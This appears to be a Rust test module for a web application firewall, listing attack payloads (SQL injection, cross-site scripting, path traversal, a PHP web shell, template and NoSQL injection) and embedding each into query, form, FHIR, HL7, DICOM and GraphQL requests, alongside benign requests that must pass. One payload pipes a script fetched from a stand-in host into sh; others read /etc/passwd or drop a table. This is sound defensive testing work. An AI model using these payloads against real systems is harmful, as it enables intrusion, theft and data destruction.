//! Our suite in blocking mode: attacks that must be stopped, plain pages that must not. CRS's own tests run in detection
//! only and say nothing about decisions.

use crate::patches::FAMILIES;
use crate::request::{Request, form};

/// Attacks of the general kind, which the Core Rule Set stops at paranoia level 1. Each is put into every place of [`places`].
pub const GENERAL: &[(&str, &str)] = &[
    ("SQL, union", "1' UNION SELECT username, password FROM users-- -"),
    ("SQL, always true", "admin' OR '1'='1'-- -"),
    ("SQL, time", "1; SELECT pg_sleep(10)--"),
    ("SQL, second statement", "1'; DROP TABLE patients;--"),
    ("script", "<script>alert(document.cookie)</script>"),
    ("script in an event", "<img src=x onerror=alert(document.domain)>"),
    ("script in SVG", "<svg/onload=alert(1)>"),
    ("command", "; cat /etc/passwd"),
    ("command in a substitution", "$(curl http://bedrail-probe.invalid/a.sh|sh)"),
    ("command of Windows", "& powershell.exe -enc SQBFAFgA"),
    ("file", "../../../../../../etc/passwd"),
    ("file by wrapper", "php://filter/convert.base64-encode/resource=index.php"),
    ("code of PHP", "<?php system($_GET['c']); ?>"),
    ("template", "{{constructor.constructor('return process')()}}"),
    ("class of Java", "java.lang.Runtime.getRuntime().exec('id')"),
    ("object of Mongo", "{\"$where\": \"sleep(1000)\"}"),
];

/// The places that attacks are put into: those that every rule set looks at, and the body types of a hospital.
pub fn places(name: &str, attack: &str) -> Vec<Request> {
    let named = |place: &str| format!("{name} in {place}");
    let encoded = form(attack);
    let json = serde_json::Value::from(attack).to_string();
    let xml = attack.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
    let part = format!(
        "--b\r\nContent-Type: application/dicom+json\r\n\r\n[{{\"00104000\":{{\"vr\":\"LT\",\"Value\":[{json}]}}}}]\r\n--b--\r\n"
    );
    let narrative = format!("<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>{attack}</p></div>");
    let narrative =
        serde_json::json!({"resourceType": "Patient", "text": {"status": "generated", "div": narrative}});
    let narrative = narrative.to_string();
    vec![
        Request::new(named("the query"), "GET", format!("/?x={encoded}")),
        Request::new(named("a form"), "POST", "/").body("application/x-www-form-urlencoded", format!("x={encoded}")),
        Request::new(named("JSON"), "POST", "/").body("application/json", format!("{{\"x\":{json}}}")),
        Request::new(named("a FHIR note"), "POST", "/fhir/Observation")
            .body("application/fhir+json", format!("{{\"resourceType\":\"Observation\",\"note\":[{{\"text\":{json}}}]}}")),
        Request::new(named("a FHIR name"), "PUT", "/fhir/Patient/1")
            .body("application/fhir+json", format!("{{\"resourceType\":\"Patient\",\"name\":[{{\"family\":{json}}}]}}")),
        Request::new(named("a FHIR narrative"), "PUT", "/fhir/Patient/1").body("application/fhir+json", narrative),
        Request::new(named("FHIR in XML"), "PUT", "/fhir/Observation/1").body(
            "application/fhir+xml",
            format!("<Observation xmlns=\"http://hl7.org/fhir\"><note><text value=\"{xml}\"/></note></Observation>"),
        ),
        Request::new(named("HL7 v2"), "POST", "/hl7").body(
            "application/hl7-v2",
            format!("MSH|^~\\&|A|B|C|D|20261127||ORU^R01|1|P|2.5.1\rNTE|1|L|{attack}\r"),
        ),
        Request::new(named("a GraphQL variable"), "POST", "/graphql").body(
            "application/json",
            format!("{{\"query\":\"query($t: String) {{ find(text: $t) {{ id }} }}\",\"variables\":{{\"t\":{json}}}}}"),
        ),
        Request::new(named("DICOM JSON"), "POST", "/dicom-web/workitems")
            .body("application/dicom+json", format!("[{{\"00104000\":{{\"vr\":\"LT\",\"Value\":[{json}]}}}}]")),
        Request::new(named("DICOM metadata"), "POST", "/dicom-web/studies")
            .body("multipart/related; type=\"application/dicom+json\"; boundary=b", part),
        Request::new(named("a text"), "PUT", "/notes/1.txt").body("text/plain", attack),
        Request::new(named("a JSON patch"), "PATCH", "/fhir/Patient/1")
            .body("application/json-patch+json", format!("[{{\"op\":\"add\",\"path\":\"/name\",\"value\":{json}}}]")),
    ]
}

/// Every attack: the probes of the virtual patches, and the general ones in every place.
pub fn attacks() -> Vec<Request> {
    let probes = FAMILIES.iter().flat_map(crate::patches::Family::probes);
    let general = GENERAL.iter().flat_map(|(name, attack)| places(name, attack));
    probes.chain(general).collect()
}

/// Plain requests that every rule set lets through.
pub fn plain() -> Vec<Request> {
    let targets = [
        "/",
        "/index.html",
        "/favicon.ico",
        "/login",
        "/static/app.js",
        "/static/app.css?v=2",
        "/patients?name=garcia&page=2",
        "/images/logo.png",
        "/api/v1/status",
        "/search?q=knee+pain",
    ];
    let mut all: Vec<Request> =
        targets.iter().map(|target| Request::new(format!("GET {target}"), "GET", *target)).collect();
    all.push(Request::new("HEAD /", "HEAD", "/"));
    all.push(
        Request::new("POST /login", "POST", "/login")
            .body("application/x-www-form-urlencoded", "username=anna&password=Winter-2026"),
    );
    all.push(
        Request::new("POST /api", "POST", "/api/v1/items")
            .body("application/json", "{\"name\":\"pump 3\",\"ward\":4}"),
    );
    all
}
